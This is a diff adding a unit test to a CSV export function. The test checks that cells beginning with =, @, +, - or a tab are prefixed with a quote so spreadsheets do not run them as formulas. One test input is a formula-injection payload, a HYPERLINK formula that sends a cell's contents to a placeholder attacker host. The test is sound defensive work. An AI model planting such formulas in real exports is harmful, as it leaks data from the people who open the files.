@@ -15,6 +15,25 @@ describe('toCsv', () => {
     expect(csv.slice(1)).toBe('a,b\r\nplain,1\r\n"with,comma","say ""hi"""\r\n"line\nbreak","cr\rhere"\r\n,2.5\r\n');
   });
 
+  it('a text cell a spreadsheet would run as a formula starts with a quote; numbers stay numbers', () => {
+    const csv = toCsv(['title', 'n'], [
+      ['=HYPERLINK("http://evil.example/?x="&A1,"click")', -3],
+      ['@SUM(A1:A9)', 4],
+      ['+1+2', 0],
+      ['-3+4', 1],
+      ['\tcmd', 2],
+      ['Принтер = сломан', 5],
+    ]);
+    expect(csv.slice(1).split('\r\n').slice(1, -1)).toEqual([
+      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",-3`,
+      "'@SUM(A1:A9),4",
+      "'+1+2,0",
+      "'-3+4,1",
+      "'\tcmd,2",
+      'Принтер = сломан,5',
+    ]);
+  });
+
   it('keeps Cyrillic as UTF-8 text', () => {
     const csv = toCsv(['title'], [['Не работает принтер']]);
     expect(Buffer.from(csv, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
